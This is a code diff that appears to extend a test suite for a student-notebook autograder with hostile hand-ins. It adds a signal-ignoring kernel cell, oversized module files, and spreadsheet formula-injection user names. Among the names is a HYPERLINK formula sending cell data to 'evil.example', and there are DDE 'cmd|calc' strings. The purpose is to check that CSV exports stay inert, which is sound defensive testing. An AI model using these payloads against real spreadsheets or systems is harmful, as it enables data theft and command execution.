@@ -25,6 +25,7 @@ import argparse
 import copy
 import dataclasses
 import io
+import random
 import re
 import stat
 import sys
@@ -401,6 +402,25 @@ threading.Thread(target=_lurk, daemon=True).start()
 '''
 
 
+CELL_IGNORES_SIGNALS = '''
+# Deaf to the interrupt at the time limit and to SIGTERM: only a kill ends it
+import signal, time
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+time.sleep(3600)
+'''
+
+MAIN_GUARD_TEST = '''
+if __name__ == '__main__':          # the module's own test: never runs on import
+    import numpy as np
+    print(np.tanh(0.5), tanh(0.5))
+'''
+
+# user names (Blackboard's file names carry them) that a spreadsheet would run as formulas
+FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' -c calc'!A0", '-2+3+cmd|calc!A0',
+                 '@SUM(1+9)*cmd|calc!A0', '\t=1+1', '\x1b[31mred')
+
+
 # --- building hand-ins -----------------------------------------------------------------------------
 @dataclass
 class Builder:
@@ -556,6 +576,30 @@ def _symlink(b: Builder) -> bytes:
     return b.zip(members)
 
 
+def _long_line(b: Builder) -> bytes:
+    """One 8 MB line: a list literal of a million numbers (random: a repeating literal would
+    compress past intake's zip-bomb ratio)."""
+    draw = random.Random(21).randrange
+    numbers = ', '.join(str(draw(10 ** 7)) for _ in range(1_000_000))
+    return b.hand_in(b.module(f'EMBEDDED = [{numbers}]\n'))
+
+
+def _comments(b: Builder) -> bytes:
+    """50 MB of comment lines of random words after the module."""
+    words = 'the a layer weight bias loss gradient epoch batch neuron value input output update'.split()
+    rng = random.Random(21)
+    pool = ['# ' + ' '.join(rng.choices(words, k=12)) + '\n' for _ in range(20_000)]
+    count = 50_000_000 // (sum(map(len, pool)) // len(pool))
+    return b.hand_in(b.module(''.join(rng.choices(pool, k=count))))
+
+
+def _all_markdown(b: Builder) -> bytes:
+    """Every code cell turned into a Markdown cell (the locked cells too)."""
+    nb = b.master()
+    nb.cells = [nbformat.v4.new_markdown_cell(c.source) if c.cell_type == 'code' else c for c in nb.cells]
+    return b.hand_in(nb=nb)
+
+
 # --- the catalogue --------------------------------------------------------------------------------
 @dataclass(frozen=True)
 class Case:
@@ -600,6 +644,39 @@ def _cell_count(document: dict, out: Path) -> None:
     check = next(c for c in document['checks'] if c['id'] == 'static.notebook-format')
     assert check['details']['code_cells'] > 10_000
     assert sum(c['status'] == 'skipped' for c in document['notebook']['cells']) >= 10_000
+
+
+def _exports_are_inert(document: dict, out: Path) -> None:
+    """The graded result under hostile user names, written as a batch writes its exports: no
+    cell of grades.csv or blackboard-grades.csv starts a formula or holds a control character."""
+    import csv
+    from autograder.batch.exports import Row, write_blackboard_csv, write_grades_csv
+    from autograder.batch.gradebook import GRADED, Record
+    from autograder.batch.inbox import Attempt
+    from autograder.intake.blackboard import parse_blackboard_name
+    rows = []
+    for name in FORMULA_NAMES:
+        parsed = parse_blackboard_name(f'Eindopdracht_{name}_attempt_2024-01-26-23-59-00_hand-in.zip')
+        assert parsed is not None and parsed.user == name, name
+        attempt = Attempt(parsed.user, parsed.attempt, out, 'c' * 64, (f'{name}.zip',))
+        record = Record('eindopdracht-v2324.2', parsed.user, parsed.attempt, str(out), 'c' * 64, 'hostile', 'f', '0',
+                        GRADED, points=document['score']['points'], max_points=document['score']['max_points'],
+                        grade=5.0, passed=0, error=f'={name}')
+        rows.append(Row(attempt, record, True, f'{name}/report.html'))
+    written = [write_grades_csv(rows, out / 'grades.csv'), write_blackboard_csv(rows, out / 'blackboard.csv', 'Grade')[0]]
+    for path in written:
+        with open(path, newline='', encoding='utf-8') as handle:
+            for line in csv.reader(handle):
+                for cell in line:
+                    assert not cell.startswith(('=', '+', '-', '@', '\t', '\r')), (path.name, cell)
+                    assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in cell), (path.name, cell)
+
+
+def _kernel_killed_at_the_cell_limit(document: dict, out: Path) -> None:
+    assert 'ignored the interrupt' in (document['notebook']['kernel_exit'] or ''), document['notebook']['kernel_exit']
+    deaf = document['notebook']['cells'][-1]
+    assert deaf['status'] == 'timeout' and deaf['limit'] == 'cell' and deaf['killed'], deaf
+    assert deaf['seconds'] < deaf['limit_seconds'] + 30, deaf
 
 
 KERNEL_DIED = 'the kernel died in cell'
@@ -726,6 +803,26 @@ CASES: list[Case] = [
          slow=True),
     Case('ten-thousand-empty-cells', '10,000 empty code cells', _empty_cells, mode='grade', expect=_cell_count,
          slow=True),
+    Case('cell-ignores-signals', 'the last cell ignores SIGINT and SIGTERM and sleeps an hour',
+         cell_attack(at_end=CELL_IGNORES_SIGNALS), mode='grade', expect=_kernel_killed_at_the_cell_limit, slow=True,
+         fails={'notebook.runs': 'as it ignored the interrupt, its kernel was stopped'}),
+    Case('all-markdown', 'every code cell turned into Markdown', _all_markdown, mode='grade', slow=True,
+         fails={'notebook.runs': 'no code cell ran', 'static.locked-cells': 'is missing',
+                'partb.activation': 'no trained model', 'partb.time': 'cannot be timed',
+                'partb.accuracy': NO_MODEL, 'partb.overfitting': 'No training history'}),
+
+    # --- what the grader itself reads (issue 21): bounded, with a clear message --------------------------------
+    # the probes import it in the sandbox: compiling the literal may outlast the corpus's 10 s import limit
+    Case('module-8mb-line', 'model.py with one 8 MB line (an embedded literal)', _long_line,
+         fails={'static.imports': 'more than the 1 MB the grader reads of a Python file'}, may_fail=PART_A_CHECKS),
+    Case('module-50mb-comments', 'model.py followed by 50 MB of comment lines', _comments,
+         fails={'static.imports': 'more than the 1 MB the grader reads of a Python file'}),
+    Case('formula-user-names', 'Blackboard user names a spreadsheet would run (=HYPERLINK, +cmd, @SUM, ESC)',
+         lambda b: b.hand_in(), expect=_exports_are_inert),
+    # a correct hand-in, not an attack: a test block of its own under the main guard
+    Case('numpy-under-main-guard', "import numpy inside `if __name__ == '__main__':`",
+         lambda b: b.hand_in(b.module(MAIN_GUARD_TEST)),
+         says={'static.imports': "imports numpy only under `if __name__ == '__main__':`"}),
 ]
 
 
